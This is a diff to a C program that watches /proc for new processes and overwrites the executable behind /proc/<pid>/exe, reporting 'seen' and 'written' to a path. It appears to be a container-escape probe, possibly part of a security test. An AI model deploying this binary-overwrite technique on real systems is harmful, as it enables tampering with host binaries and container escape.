@@ -44,7 +44,7 @@ static int overwrite(int fd)
 
 int main(int argc, char **argv)
 {
-        int next = getpid() + 1, told = 0;
+        int next = getpid() + 1;
 
         if (argc != 2)
                 return 2;
@@ -58,19 +58,20 @@ int main(int argc, char **argv)
                         snprintf(path, sizeof path, "/proc/%d", pid);
                         if (access(path, F_OK) < 0)
                                 continue;
-                        for (int i = 0; i < 500; i++) {
-                                snprintf(path, sizeof path, "/proc/%d/exe", pid);
-                                fd = open(path, O_PATH);
-                                if (fd < 0 && errno == ENOENT)
-                                        break;
+                        while (access(path, F_OK) == 0) {
+                                char exe[64];
+
+                                snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
+                                fd = open(exe, O_PATH);
                                 if (fd < 0)
                                         continue;
                                 if (fstat(fd, &st) == 0 && !is_ours(&st, "/bin/busybox") &&
                                     !is_ours(&st, "/proc/self/exe")) {
-                                        if (!told++)
-                                                tell(argv[1], "seen");
+                                        tell(argv[1], "seen");
                                         if (overwrite(fd))
                                                 tell(argv[1], "written");
+                                        close(fd);
+                                        break;
                                 }
                                 close(fd);
                         }
